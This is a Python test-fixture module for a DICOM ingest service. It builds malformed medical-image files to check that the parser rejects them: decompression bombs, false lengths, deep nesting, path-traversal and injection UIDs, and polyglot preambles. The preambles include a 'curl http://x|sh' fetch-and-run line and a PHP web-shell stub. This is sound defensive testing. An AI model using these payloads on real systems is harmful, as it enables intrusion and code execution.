"""Instances made to hurt: each is sound but for the one lie that its name tells."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import lru_cache
from itertools import count

from isocenter.common.dicom.part10 import encode_file_meta
from isocenter.common.errors import RejectReason
from isocenter.ingest.domain import STATUS_OF

CT = "1.2.840.10008.5.1.4.1.1.2"
MR = "1.2.840.10008.5.1.4.1.1.4"
IMPLICIT = "1.2.840.10008.1.2"
EXPLICIT = "1.2.840.10008.1.2.1"
BIG_ENDIAN = "1.2.840.10008.1.2.2"
DEFLATED = "1.2.840.10008.1.2.1.99"
RLE = "1.2.840.10008.1.2.5"

SOP_CLASS, SOP, STUDY, SERIES = 0x00080016, 0x00080018, 0x0020000D, 0x0020000E
PIXELS = 0x7FE00010
UNDEFINED = 0xFFFFFFFF
ITEM, ITEM_END, SEQUENCE_END = 0xFFFEE000, 0xFFFEE00D, 0xFFFEE0DD

_LONG = frozenset({"OB", "OW", "SQ", "UN", "UT"})
_serial = count(1)


def element(tag: int, vr: str, value: bytes = b"", length: int | None = None, order: str = "<") -> bytes:
    """One element in explicit VR; `length` is what it claims where that is not the truth."""
    size = len(value) if length is None else length
    head = struct.pack(f"{order}HH2s", tag >> 16, tag & 0xFFFF, vr.encode())
    return head + struct.pack(f"{order}xxI" if vr in _LONG else f"{order}H", size) + value


def mark(tag: int, length: int = 0) -> bytes:
    """An item or a delimiter."""
    return struct.pack("<HHI", tag >> 16, tag & 0xFFFF, length)


def uid_value(text: str | bytes) -> bytes:
    value = text if isinstance(text, bytes) else text.encode()
    return value + b"\0" * (len(value) % 2)


@dataclass(frozen=True)
class Instance:
    """A small CT image. What follows Series Instance UID is `tail`."""

    sop: str = ""
    study: str | bytes = "1.2.826.0.1.3680043.8.498.1"
    series: str | bytes = "1.2.826.0.1.3680043.8.498.2"
    stated_class: str | bytes = CT
    stated_sop: str | bytes | None = None
    """SOP Instance UID of the data set, where it is not that of command and file meta information."""
    before: bytes = b""
    """Elements in front of Study Instance UID."""
    tail: bytes | None = None
    syntax: str = EXPLICIT
    order: str = "<"
    preamble: bytes = b""

    def numbered(self) -> Instance:
        """The same with a SOP Instance UID that nobody has used."""
        return replace(self, sop=f"1.2.826.0.1.3680043.8.498.3.{next(_serial)}")

    def data_set(self) -> bytes:
        stated = self.sop if self.stated_sop is None else self.stated_sop
        plain = (
            element(SOP_CLASS, "UI", uid_value(self.stated_class), order=self.order)
            + element(SOP, "UI", uid_value(stated), order=self.order)
            + self.before
            + element(STUDY, "UI", uid_value(self.study), order=self.order)
            + element(SERIES, "UI", uid_value(self.series), order=self.order)
            + (image(4, 4, "1", element(PIXELS, "OW", bytes(32))) if self.tail is None else self.tail)
        )
        return deflated(plain) if self.syntax == DEFLATED else plain

    def file(self) -> bytes:
        meta = encode_file_meta(sop_class_uid=CT, sop_instance_uid=self.sop, transfer_syntax_uid=self.syntax)
        return self.preamble.ljust(128, b"\0") + meta[128:] + self.data_set()


def deflated(data: bytes) -> bytes:
    squeeze = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    out = squeeze.compress(data) + squeeze.flush()
    return out + b"\0" * (len(out) % 2)


def image(rows: int, columns: int, frames: str, pixels: bytes) -> bytes:
    return (
        element(0x00280002, "US", struct.pack("<H", 1))
        + element(0x00280008, "IS", frames.encode() + b" " * (len(frames) % 2))
        + element(0x00280010, "US", struct.pack("<H", rows))
        + element(0x00280011, "US", struct.pack("<H", columns))
        + element(0x00280100, "US", struct.pack("<H", 16))
        + pixels
    )


def nested(depth: int, *, defined: bool) -> bytes:
    """Sequences in sequences. Linear in `depth`, also where each states its length."""
    if not defined:
        opening = element(0x00081140, "SQ", length=UNDEFINED) + mark(ITEM, UNDEFINED)
        return opening * depth + (mark(ITEM_END) + mark(SEQUENCE_END)) * depth
    layers = (
        element(0x00081140, "SQ", length=20 * level + 8) + mark(ITEM, 20 * level)
        for level in reversed(range(depth))
    )
    return b"".join(layers)


@lru_cache
def bomb(megabytes: int) -> bytes:
    return element(0x00091010, "OB", bytes(megabytes << 20))


@dataclass(frozen=True)
class Attack:
    """What is sent, and the reason it must hear."""

    name: str
    make: Callable[[], Instance]
    reason: RejectReason

    @property
    def status(self) -> int:
        return STATUS_OF[self.reason]


def _attack(name: str, reason: RejectReason, make: Callable[[], Instance]) -> Attack:
    return Attack(name, lambda: make().numbered(), reason)


def _fragments(count_: int) -> bytes:
    items = mark(ITEM) + (mark(ITEM, 2) + b"ab") * count_ + mark(SEQUENCE_END)
    return element(PIXELS, "OB", items, length=UNDEFINED)


_R = RejectReason
LIES = (
    _attack("deflate bomb before the UIDs", _R.TOO_LARGE, lambda: Instance(before=bomb(64), syntax=DEFLATED)),
    _attack("deflate bomb behind the UIDs", _R.TOO_LARGE, lambda: Instance(tail=bomb(64), syntax=DEFLATED)),
    _attack(
        "length of 4 GB past the end",
        _R.MALFORMED,
        lambda: Instance(tail=element(PIXELS, "OW", b"ab", length=0xFFFFFFFE)),
    ),
    _attack(
        "length one past the end",
        _R.MALFORMED,
        lambda: Instance(tail=element(PIXELS, "OW", b"abcd", length=6)),
    ),
    _attack(
        "length past the end of its item",
        _R.MALFORMED,
        lambda: Instance(
            tail=element(0x00400275, "SQ", mark(ITEM, 10) + element(0x00400009, "SH", b"ab", length=200))
            + element(0x00400280, "ST", bytes(400))
        ),
    ),
    _attack(
        "a UID without an end", _R.MALFORMED, lambda: Instance(before=element(STUDY, "UN", length=UNDEFINED))
    ),
    _attack(
        "fragments without an end",
        _R.MALFORMED,
        lambda: Instance(tail=_fragments(2)[:-8], syntax=RLE),
    ),
    _attack(
        "10,000 sequences of undefined length",
        _R.TOO_DEEP,
        lambda: Instance(tail=nested(10_000, defined=False)),
    ),
    _attack(
        "10,000 sequences that state their lengths",
        _R.TOO_DEEP,
        lambda: Instance(tail=nested(10_000, defined=True)),
    ),
    _attack(
        "10,000 sequences before the UIDs",
        _R.TOO_DEEP,
        lambda: Instance(before=nested(10_000, defined=False)),
    ),
    _attack("1,100,000 elements", _R.TOO_LARGE, lambda: Instance(tail=element(0x00400275, "SH") * 1_100_000)),
    _attack(
        "Rows x Columns x Frames that are nothing in 64 bits",
        _R.PIXEL_MISMATCH,
        lambda: Instance(tail=image(32768, 32768, str(1 << 34), element(PIXELS, "OW", bytes(32)))),
    ),
    _attack(
        "one row more than there is",
        _R.PIXEL_MISMATCH,
        lambda: Instance(tail=image(5, 4, "1", element(PIXELS, "OW", bytes(32)))),
    ),
    _attack(
        "frames without fragments",
        _R.PIXEL_MISMATCH,
        lambda: Instance(tail=image(4, 4, "2000000000", _fragments(2)), syntax=RLE),
    ),
    _attack(
        "another SOP Instance UID inside",
        _R.SOP_MISMATCH,
        lambda: Instance(stated_sop="1.2.826.0.1.3680043.8.498.9.9"),
    ),
    _attack("another SOP Class UID inside", _R.SOP_MISMATCH, lambda: Instance(stated_class=MR)),
    _attack(
        "big endian under a little endian transfer syntax",
        _R.MISSING_UID,
        lambda: Instance(order=">", tail=b""),
    ),
)

HOSTILE_UIDS = {
    "climbing": b"../../../../etc/cron.d/x",
    "absolute": b"/etc/passwd",
    "backslashes": b"..\\..\\windows",
    "NUL inside": b"1.2.3\0/../4",
    "65 digits": b"1." + b"2" * 63,
    "80 digits": b"1." + b"2" * 78,
    "letters": b"1.2.abc",
    "unicode": "1.2.\N{ARABIC-INDIC DIGIT THREE}".encode(),
    "full width": "\N{FULLWIDTH DIGIT ONE}.2".encode(),
    "two values": b"1.2.3\\1.2.4",
    "leading zero": b"1.02.3",
    "dots": b"1..2",
    "newline": b"1.2.3\r\nX-Injected: 1",
    "markup": b"<script>alert(1)</script>",
    "operator": b'{"$ne":null}',
    "megabyte": b"1." * (1 << 14),
}
"""Values that became paths, queries or pages somewhere."""

PROGRAMS = {
    "Windows": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0",
    "Linux": b"\x7fELF\2\1\1\0",
    "macOS": b"\xcf\xfa\xed\xfe\7\0\0\1",
    "shell": b"#!/bin/sh\ncurl http://x|sh\n#",
    "page": b"<html><script>fetch('//x')</script><!--",
    "page behind spaces": b"\r\n\t <!DOCTYPE html><body onload=x()>",
    "picture with a script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'>",
    "PDF": b"%PDF-1.7\n1 0 obj",
    "archive": b"PK\3\4\x14\0\0\0\x08\0",
    "PHP": b"GIF89a<?php system($_GET[0]);",
}
"""Preambles that make the file something else as well (CVE-2019-11687)."""
